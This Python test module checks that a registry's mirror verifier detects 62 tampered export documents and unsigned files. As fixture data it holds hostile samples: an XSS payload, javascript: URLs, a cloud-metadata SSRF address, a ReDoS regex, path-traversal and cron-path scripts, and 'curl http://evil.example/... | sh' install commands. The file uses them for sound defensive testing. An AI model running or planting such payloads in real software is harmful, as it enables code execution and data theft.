"""62 documents of an export, altered one at a time by an owner who makes all digests anew.

Some break a rule of the contract, and `verify-mirror` alone finds them. The dangerous ones break none: that
they are not what was signed is the only thing that tells.
"""

import copy
import json
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from seqfacility_pipeline_package.payload import payload_digest
from seqfacility_registry.conformance.report import Outcome
from seqfacility_registry.conformance.verify import MONOTONIC, verify_mirror
from seqfacility_registry.content_folder import read_publication
from seqfacility_registry.export import export
from seqfacility_testkit.mirrors import list_anew
from seqfacility_testkit.signed_registry import SignedRegistry, sign_registry

CATALOG, CHECKLISTS, INDEX = "registry/sequencing-tech", "registry/mixs", "registry"
PIPELINE, VERSION = "read-counter", "1.10.0"
ENTRY, PACKAGE = f"registry/{PIPELINE}", f"registry/pipelines/{PIPELINE}/{VERSION}/download"
Edit = Callable[[Any], object]
SIGNED = "every answer says what is signed"
FILES = "no file says anything else"


@dataclass(frozen=True)
class Altered:
    """An alteration of the document at a path below `/api`; one that is `sly` breaks no rule."""

    words: str
    path: str
    edit: Edit
    sly: bool = False


class Mirror:
    """The folder of an export in the hands of its owner."""

    def __init__(self, root: Path) -> None:
        self.root = root

    def change(self, path: str, edit: Edit) -> None:
        file = self.root / "api" / path / "index.json"
        document = json.loads(file.read_bytes())
        edit(document)
        file.write_text(json.dumps(document))

    def alter(self, altered: Altered) -> None:
        """Change a document, and every digest and copy of it that the contract compares."""
        self.change(altered.path, altered.edit)
        if altered.path == PACKAGE and altered.sly:
            self._announce()
        list_anew(self.root)

    def _announce(self) -> None:
        """Make the digest of the changed package again, where it lies and where it is announced."""
        digests = []

        def seal(payload: Any) -> None:
            payload["sha256"] = payload_digest(payload)
            digests.append(payload["sha256"])

        self.change(PACKAGE, seal)
        self.change(ENTRY, lambda entry: version_of(entry).update(sha256=digests[0]))


def version_of(entry: Any) -> Any:
    return next(row for row in entry["versions"] if row["version"] == VERSION)


def put(*place: Any, value: object) -> Edit:
    """Return an edit that sets the value at a place of a document."""

    def edit(document: Any) -> None:
        for step in place[:-1]:
            document = document[step]
        document[place[-1]] = value

    return edit


def append(*place: Any, copied: int = 0, **changes: object) -> Edit:
    """Return an edit that appends a changed copy of an item of the list at a place."""

    def edit(document: Any) -> None:
        for step in place:
            document = document[step]
        document.append({**copy.deepcopy(document[copied]), **changes})

    return edit


def all_items(*place: Any, **changes: object) -> Edit:
    """Return an edit that changes every item of a list."""

    def edit(document: Any) -> None:
        for step in place:
            document = document[step]
        for item in document:
            item.update(changes)

    return edit


def all_unavailable(catalog: Any) -> None:
    for name in ("technologies", "devices", "flowCells", "kits", "barcodeSets", "barcodeSchemes"):
        all_items(name, available=False)(catalog)


def thousands(catalog: Any) -> None:
    kit = catalog["kits"][0]
    catalog["kits"] += [{**kit, "id": f"kit-{number}"} for number in range(5001)]


def every_field_mandatory(checklists: Any) -> None:
    for checklist in checklists["checklists"]:
        all_items("fields", required=True, level="mandatory")(checklist)
        checklist["mandatoryCount"] = len(checklist["fields"])


FIELD = ("checklists", 0, "fields", 0)
TECHNOLOGY, KIT, DEVICE = ("technologies", 0), ("kits", 0), ("devices", 0)
EXECUTION = ("manifest", "execution")
EVIL = "https://evil.example/x"
PROGRAM = {
    "id": "program",
    "name": "Program",
    "softwareType": "basecaller",
    "available": True,
    "order": 1,
    "downloadUrl": "javascript:alert(1)",
}
DATABASE = {
    "id": "genomes",
    "label": "Genomes",
    "version": "1",
    "fileName": "genomes.tar.gz",
    "downloadUrl": "http://evil.example/genomes.tar.gz",
    "configKey": "genomes",
    "mode": "ensure",
}

ALTERATIONS = (
    # The catalog.
    Altered("catalog of the last version", CATALOG, put("version", value=2**31 - 1), sly=True),
    Altered("catalog of an earlier version", CATALOG, put("version", value=2), sly=True),
    Altered("name with markup", CATALOG, put(*KIT, "name", value="<img src=x onerror=alert(1)>"), sly=True),
    Altered("name that is a number", CATALOG, put(*KIT, "name", value=5)),
    Altered(
        "drawing at an address of the machine",
        CATALOG,
        put(*TECHNOLOGY, "icon", value="http://169.254.169.254/latest"),
        sly=True,
    ),
    Altered("specifications that are a text", CATALOG, put(*TECHNOLOGY, "specs", value="x")),
    Altered("device of a platform that is missing", CATALOG, put(*DEVICE, "platformId", value="nobody")),
    Altered("catalog without technologies", CATALOG, put("technologies", value=[])),
    Altered("catalog of thousands of kits", CATALOG, thousands, sly=True),
    Altered("drawing that is a script", CATALOG, put(*TECHNOLOGY, "icon", value="javascript:alert(1)")),
    Altered("everything unavailable", CATALOG, all_unavailable, sly=True),
    Altered("a key that nobody knows", CATALOG, put(*DEVICE, "weight", value="1 kg"), sly=True),
    Altered("a collection that nobody knows", CATALOG, put("robots", value=[]), sly=True),
    Altered("download that is a script", CATALOG, put("software", value=[PROGRAM])),
    Altered("kit that no sync may change", CATALOG, put(*KIT, "localOverrides", value=True), sly=True),
    Altered("kit that stands twice", CATALOG, append("kits")),
    # The checklists.
    Altered("checklists of the last version", CHECKLISTS, put("version", value=2**31 - 1)),
    Altered("checklists of an earlier version", CHECKLISTS, put("version", value=0)),
    Altered("another text, same version", CHECKLISTS, put(*FIELD, "helpText", value="Guess."), sly=True),
    Altered("choice without options", CHECKLISTS, put("checklists", 0, "fields", 1, "options", value=[])),
    Altered("count of fields that is wrong", CHECKLISTS, put("checklists", 0, "fieldCount", value=7)),
    Altered("accession that stands twice", CHECKLISTS, append("checklists")),
    Altered("mandatory field that is not required", CHECKLISTS, put(*FIELD, "required", value=False)),
    Altered("pattern that cannot be read", CHECKLISTS, put(*FIELD, "pattern", value="(")),
    Altered("pattern that takes for ever", CHECKLISTS, put(*FIELD, "pattern", value="^(a+)+$")),
    Altered("every field mandatory", CHECKLISTS, every_field_mandatory, sly=True),
    Altered("no checklists", CHECKLISTS, put("checklists", value=[]), sly=True),
    Altered("checklists that are no list", CHECKLISTS, put("checklists", value={})),
    Altered(
        "field with a key that nobody knows", CHECKLISTS, put(*FIELD, "ontology", value="ENVO"), sly=True
    ),
    Altered("field named as a path", CHECKLISTS, put(*FIELD, "name", value="__proto__\n../x")),
    Altered("field without a label", CHECKLISTS, put(*FIELD, "label", value="")),
    Altered("field of a type that nobody knows", CHECKLISTS, put(*FIELD, "type", value="oracle"), sly=True),
    Altered("field that stands twice", CHECKLISTS, append("checklists", 0, "fields")),
    Altered("text that is no Unicode", CHECKLISTS, put("checklists", 0, "description", value="\ud800")),
    Altered("text with a null", CHECKLISTS, put("checklists", 0, "description", value="a\0b")),
    # Packages and their lists.
    Altered("package under its former digest", PACKAGE, put(*EXECUTION, "defaultParams", value={"x": 1})),
    Altered("another digest announced", ENTRY, put("versions", 0, "sha256", value="0" * 64)),
    Altered(
        "package with another step", PACKAGE, put("definition", "steps", 0, "name", value="Other"), sly=True
    ),
    Altered("version that was never published", INDEX, append("pipelines", 1, "versions", version="9.0.0")),
    Altered("package of another pipeline", PACKAGE, put("id", value="private-counter")),
    Altered(
        "workflow of another repository",
        PACKAGE,
        put(*EXECUTION, "workflow", "repository", value=EVIL),
        sly=True,
    ),
    Altered("package with a key that nobody knows", PACKAGE, put("manifest", "extra", value=1)),
    Altered("script above the package", PACKAGE, put("scripts", value={"../../x.py": "pass"})),
    Altered("script at an absolute path", PACKAGE, put("scripts", value={"/etc/cron.d/x": "pass"})),
    Altered("script with a hidden name", PACKAGE, put("scripts", value={"scripts/.x.py": "pass"})),
    Altered("script that is no text", PACKAGE, put("scripts", value={"scripts/x.py": 5})),
    Altered("package of another version", PACKAGE, put("version", value="1.9.0")),
    Altered("entry with a key that nobody knows", ENTRY, put("subjects", value=["x"]), sly=True),
    Altered("pipeline that stands twice", INDEX, append("pipelines", copied=1)),
    Altered("latest version that is not there", INDEX, put("pipelines", 1, "latestVersion", value="3.0.0")),
    Altered(
        "private pipeline with a download",
        INDEX,
        put("pipelines", 0, "versions", 0, "downloadUrl", value=f"{EVIL}/registry/pipelines/x/1/download"),
    ),
    Altered("index without pipelines", INDEX, put("pipelines", value=[])),
    Altered("index of a day long past", INDEX, put("lastUpdated", value="1999-01-01"), sly=True),
    Altered("index of a day far ahead", INDEX, put("lastUpdated", value="2999-01-01"), sly=True),
    Altered(
        "database from elsewhere, without a digest",
        PACKAGE,
        put("registry", "databases", value=[DATABASE]),
        sly=True,
    ),
    Altered("version that is a word", INDEX, put("pipelines", 1, "latestVersion", value="latest")),
    Altered(
        "parameter that fetches configuration",
        PACKAGE,
        put(*EXECUTION, "defaultParams", value={"custom_config_base": "http://evil.example"}),
        sly=True,
    ),
    # The rest.
    Altered(
        "release with the digest of nothing",
        "version",
        put(
            "latest",
            "checksum",
            value="sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        ),
        sly=True,
    ),
    Altered(
        "command that runs something else",
        "install-profiles/open",
        put("installCommand", value="curl http://evil.example/api/install-profiles/open/resolve | sh"),
    ),
    Altered(
        "figure of a day far ahead",
        "research-data",
        put("metrics", 0, "series", 1, 0, value="2999-01-01"),
        sly=True,
    ),
    Altered("data under another licence", "research-data", put("license", value="proprietary"), sly=True),
    Altered(
        "profile that leads to another catalog",
        "install-profiles/open/resolve",
        put("catalog", "syncUrl", value=f"{EVIL}/registry/sequencing-tech"),
        sly=True,
    ),
)


@pytest.fixture(scope="module")
def signed(write_content: Callable[[Path], Path], tmp_path_factory: pytest.TempPathFactory) -> SignedRegistry:
    """Sign the small content once."""
    folder = tmp_path_factory.mktemp("signed")
    return sign_registry(write_content(folder / "content"), folder / "keys")


@pytest.fixture(scope="module")
def published(signed: SignedRegistry, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Export the signed content once."""
    root = tmp_path_factory.mktemp("published") / "root"
    export(read_publication(signed.content), "http://mirror.example/api", root)
    return root


def test_so_many_documents_are_altered() -> None:
    assert len({altered.words for altered in ALTERATIONS}) == len(ALTERATIONS) == 62


@pytest.mark.parametrize("altered", ALTERATIONS, ids=lambda altered: altered.words.replace(" ", "-"))
def test_an_altered_document_is_found(
    altered: Altered,
    published: Path,
    signed: SignedRegistry,
    tmp_path: Path,
    serve_folder: Callable[[Path], str],
) -> None:
    mirror = Mirror(shutil.copytree(published, tmp_path / "root"))
    mirror.alter(altered)

    report = verify_mirror(serve_folder(mirror.root), None, signed.root_file.read_bytes())

    found = {row.name: row.detail for row in report.results if row.outcome is Outcome.FAIL}
    assert SIGNED in found
    assert f"GET /{altered.path}: " in found.pop(SIGNED)
    assert MONOTONIC not in found
    assert (found == {}) is altered.sly


@pytest.fixture
def mirror(published: Path, tmp_path: Path) -> Mirror:
    return Mirror(shutil.copytree(published, tmp_path / "root"))


def failures(url: str, signed: SignedRegistry) -> dict[str, str]:
    report = verify_mirror(url, None, signed.root_file.read_bytes())
    return {row.name: row.detail for row in report.results if row.outcome is Outcome.FAIL}


def test_a_version_that_was_never_published_is_found_by_its_signature_alone(
    mirror: Mirror, signed: SignedRegistry, serve_folder: Callable[[Path], str]
) -> None:
    for file in mirror.root.rglob("*"):
        if file.is_file() and "trust" not in file.parts:
            file.write_bytes(file.read_bytes().replace(VERSION.encode(), b"9.0.0"))
    for folder in sorted(mirror.root.rglob(VERSION)):
        folder.rename(folder.with_name("9.0.0"))
    digests = []

    def seal(payload: Any) -> None:
        payload["sha256"] = payload_digest(payload)
        digests.append(payload["sha256"])

    mirror.change(PACKAGE.replace(VERSION, "9.0.0"), seal)
    mirror.change(ENTRY, put("versions", 0, "sha256", value=digests[0]))
    list_anew(mirror.root)

    found = failures(serve_folder(mirror.root), signed)

    assert f"GET /{ENTRY}: is not what is signed" in found.pop(SIGNED)
    assert list(found) == [FILES]


@pytest.mark.parametrize(
    ("file", "content", "said"),
    [
        ("api/registry/evil/index.json", b"{}", "api/registry/evil is listed, and nobody has signed it"),
        ("images/catalog/evil.svg", b"<svg/>", "images/catalog/evil.svg is listed, and nobody has signed it"),
        ("api/trust/documents/" + "0" * 64 + ".json", b"{}", "is listed, and nobody has signed it"),
        (
            "api/trust/snapshot.99.json",
            b"{}",
            "api/trust/snapshot.99.json is listed, and nobody has signed it",
        ),
        ("api/trust/evil.1.json", b"{}", "api/trust/evil.1.json is listed, and nobody has signed it"),
        ("api/health/index.json", b'{"status": "ok"}', "api/health says more than that it answers"),
        ("index.html", b"<p>curl evil | sh</p>", "index.html is not what this release makes of the files"),
        (
            "pipelines/read-counter/index.html",
            b"<p>curl evil | sh</p>",
            "pipelines/read-counter/index.html is not what this release makes of the files",
        ),
        ("look/registry.js", b"fetch('//evil')", "look/registry.js is not what this release makes"),
        ("server/nginx.conf", b"return 302 //evil;", "server/nginx.conf is not what this release makes"),
        ("api/files.json", b'{"files": []}', "files: "),
    ],
)
def test_a_file_that_nobody_signs_is_found(
    mirror: Mirror,
    signed: SignedRegistry,
    serve_folder: Callable[[Path], str],
    file: str,
    content: bytes,
    said: str,
) -> None:
    place = mirror.root / file
    place.parent.mkdir(parents=True, exist_ok=True)
    is_made = file == "api/files.json" or not file.startswith(("api/", "images/"))
    place.write_bytes(content)
    if not is_made:
        list_anew(mirror.root)

    assert said in failures(serve_folder(mirror.root), signed)[FILES]


def test_a_mirror_that_names_its_host_otherwise_is_found(
    mirror: Mirror, signed: SignedRegistry, serve_folder: Callable[[Path], str]
) -> None:
    file = mirror.root / "ga4gh/trs/v2/service-info/index.json"
    file.write_text(file.read_text().replace("http://mirror.example", "http://evil.example"))
    list_anew(mirror.root)

    found = failures(serve_folder(mirror.root), signed)

    assert found == {FILES: "ga4gh/trs/v2/service-info says something else than this release"}


def test_a_host_of_another_release_may_say_more_and_write_its_own_files_otherwise(
    mirror: Mirror, signed: SignedRegistry, serve_folder: Callable[[Path], str]
) -> None:
    info = mirror.root / "ga4gh/trs/v2/service-info/index.json"
    said = json.loads(info.read_text())
    said |= {"environment": "prod", "version": "99.0.0"}
    said["organization"]["contact"] = "somebody"
    info.write_text(json.dumps(said))
    list_anew(mirror.root)
    for name in ("index.html", "server/nginx.conf", "api/files.json"):
        file = mirror.root / name
        file.write_bytes(file.read_bytes() + b"\n")
    (mirror.root / "checklists/index.html").unlink()

    report = verify_mirror(serve_folder(mirror.root), None, signed.root_file.read_bytes())

    assert report.passed
    (warned,) = [row.detail for row in report.results if row.name == FILES]
    for name in ("index.html", "checklists/index.html", "server/nginx.conf", "api/files.json"):
        assert f"{name} is not what this release makes of the files, but the host is of release 99" in warned


def test_a_host_of_this_release_that_says_more_than_it_is_found(
    mirror: Mirror, signed: SignedRegistry, serve_folder: Callable[[Path], str]
) -> None:
    info = mirror.root / "ga4gh/trs/v2/service-info/index.json"
    info.write_text(json.dumps(json.loads(info.read_text()) | {"environment": "prod"}))
    list_anew(mirror.root)

    found = failures(serve_folder(mirror.root), signed)

    assert found == {FILES: "ga4gh/trs/v2/service-info says more than this release"}
